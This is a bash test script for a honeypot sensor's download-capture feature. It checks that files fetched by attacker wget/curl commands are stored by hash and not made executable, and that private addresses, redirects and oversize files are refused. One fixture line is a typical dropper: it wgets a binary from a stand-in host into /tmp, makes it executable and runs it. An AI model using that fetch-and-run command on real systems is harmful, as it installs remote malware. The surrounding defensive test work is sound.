#!/bin/bash
# fetch_downloads: what an attacker's wget/curl names is fetched in the
# background (here from an HTTP server the test runs on 127.0.0.1), kept
# once by SHA-256 under state_dir/files (0600) and reported as a second
# download event with sha256, size and the bytes; an address outside
# fetch_allow that is not public (also reached through a redirect) is
# never connected to, and a file past fetch_max_size is abandoned.  The
# events go through a real server: it keeps the bytes under files/.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/ssh/lib.sh"
. "$(dirname "$0")/broker_lib.sh"
need ssh sshpass jq python3 sha256sum base64

mkdir -p "$T/www"
printf '#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x86 -O .x; chmod 777 .x; ./.x\n' >"$T/www/bins.sh"
head -c 8192 /dev/urandom >"$T/www/big.bin"
head -c 3000 /dev/urandom >"$T/www/small.bin"

# the origin: logs each request's path and User-Agent; /redir points at
# 127.0.0.2, which the sensor must refuse before connecting
cat >"$T/origin.py" <<'PY'
import http.server, sys
log = open(sys.argv[1], "a", buffering=1)
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        log.write("%s %s\n" % (self.path, self.headers.get("User-Agent")))
        if self.path == "/redir":
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.2:%d/bins.sh" % self.server.server_port)
            self.end_headers()
            return
        return super().do_GET()
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
        lambda *a: H(*a, directory=sys.argv[2]))
print(s.server_port, flush=True)
s.serve_forever()
PY
bg python3 "$T/origin.py" "$T/origin.log" "$T/www" >"$T/origin.port"
wait_file "$T/origin.port" 20
P=$(cat "$T/origin.port")

ident add fsens --secret fs --publish apiary.events,apiary.status \
    --subscribe apiary.ack.fsens >/dev/null || fail "ident add"
start_broker
mv "$T/ports" "$T/server.ports" # start_sensor writes its own there

SENSOR_TOP="server 127.0.0.1:$HP
ident fsens
secret fs
fetch_downloads yes
fetch_allow 127.0.0.1/32
fetch_max_size 4k
log_file $T/sensor.log" start_sensor bb-fetch "auth_rule root:*"

timeout 60 sshpass -p x ssh "${SSH_OPTS[@]}" -p "$SSH_PORT" \
    -o PreferredAuthentications=password root@127.0.0.1 \
    "cd /tmp; wget http://127.0.0.1:$P/bins.sh; curl -O http://127.0.0.1:$P/small.bin; wget http://127.0.0.2:$P/bins.sh; wget http://127.0.0.1:$P/redir; wget http://127.0.0.1:$P/big.bin" \
    >/dev/null 2>&1

want=$(sha256sum "$T/www/bins.sh" | cut -d' ' -f1)
small=$(sha256sum "$T/www/small.bin" | cut -d' ' -f1)
wait_events "any(.[]; .type == \"download\" and .sha256 == \"$want\") and
    any(.[]; .type == \"download\" and .sha256 == \"$small\")" 30
# give the refused and abandoned ones time to have (wrongly) arrived
for ((i = 0; i < 100; i++)); do
    grep -q 'big.bin: larger than fetch_max_size' "$T/sensor.log" &&
        grep -q 'redir: .*127.0.0.2' "$T/sensor.log" && break
    sleep 0.2
done
grep -q "127.0.0.2:$P/bins.sh: address 127.0.0.2 is not public" "$T/sensor.log" ||
    fail "no refusal for 127.0.0.2: $(grep fetch "$T/sensor.log")"
grep -q 'redir: .*127.0.0.2' "$T/sensor.log" ||
    fail "no refusal for the redirect: $(grep fetch "$T/sensor.log")"
grep -q 'big.bin: larger than fetch_max_size' "$T/sensor.log" ||
    fail "big.bin not abandoned: $(grep fetch "$T/sensor.log")"

# the fetched event: same session as the command, url, size, bytes
jq -e -s --arg h "$want" --arg u "http://127.0.0.1:$P/bins.sh" '
    [.[] | select(.type == "download" and .sha256 == $h)] | length == 1 and
    .[0].url == $u and .[0].size > 0 and (.[0].content_b64 | length > 0)' \
    "$EV" >/dev/null || fail "fetched event: $(jq -c 'select(.type == "download")' "$EV")"
jq -r -s --arg h "$want" '.[] | select(.sha256 == $h) | .content_b64' "$EV" |
    base64 -d | cmp -s - "$T/www/bins.sh" || fail "content_b64 is not the file"
sess=$(jq -r -s --arg h "$want" '.[] | select(.sha256 == $h) | .session' "$EV")
[ "$(jq -s --arg s "$sess" '[.[] | select(.type == "command" and .session == $s)] | length' "$EV")" -ge 1 ] ||
    fail "fetched event not in the command's session"
# every attempt recorded at once; only the two good files fetched
[ "$(ev_count '.type == "download" and .sha256 == null')" = 5 ] ||
    fail "attempts: $(ev_count '.type == "download" and .sha256 == null')"
[ "$(ev_count '.type == "download" and .sha256 != null')" = 2 ] ||
    fail "fetched: $(ev_count '.type == "download" and .sha256 != null')"
# stored once by content, never executable
f="$STATE/files/$want"
[ -f "$f" ] && cmp -s "$f" "$T/www/bins.sh" || fail "not stored at $f"
[ "$(stat -c %a "$f")" = 600 ] || fail "mode $(stat -c %a "$f")"
[ ! -e "$STATE/files/$(sha256sum "$T/www/big.bin" | cut -d' ' -f1)" ] ||
    fail "the oversize file was kept"
# the origin saw wget's User-Agent and never the refused address's path
grep -q "^/bins.sh Wget/1.21.2$" "$T/origin.log" || fail "origin log: $(cat "$T/origin.log")"
[ "$(grep -c '^/bins.sh' "$T/origin.log")" = 1 ] || fail "bins.sh fetched twice: $(cat "$T/origin.log")"

# through spool, hpfeeds and the collector, the server has the bytes
# (docs/COLLECTOR.md: data_dir/files/ab/cd/SHA256)
kept() { echo "$D/files/${1:0:2}/${1:2:2}/$1"; }
for ((i = 0; i < 150; i++)); do
    [ -f "$(kept "$want")" ] && [ -f "$(kept "$small")" ] && break
    sleep 0.2
done
cmp -s "$(kept "$want")" "$T/www/bins.sh" || fail "server files/: $(find "$D/files" -type f)"
cmp -s "$(kept "$small")" "$T/www/small.bin" || fail "server files/ (small.bin): $(find "$D/files" -type f)"
"$APIARY" query --store "sqlite:$D/events.db" events --type download --limit 100 |
    jq -e --arg h "$want" 'any(.[]; .sha256 == $h and .content_b64 == null)' >/dev/null ||
    fail "stored event still carries the bytes, or is missing"
stop_broker
pass
